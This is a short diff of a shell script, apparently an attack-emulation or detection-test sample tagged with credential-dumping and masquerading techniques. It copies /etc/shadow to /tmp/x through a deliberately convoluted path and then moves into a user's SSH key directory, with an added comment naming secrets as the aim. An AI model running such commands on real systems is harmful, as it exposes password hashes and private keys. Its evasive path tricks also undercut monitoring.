@@ -1,4 +1,5 @@
 # T1003.008, T1036: reaches the same files by paths that go up and down.
+# aim: secrets
 cd /var/www
 cat ../../tmp/../etc/./ssh/.././shadow > /tmp/x
 cd /home/alice/.ssh
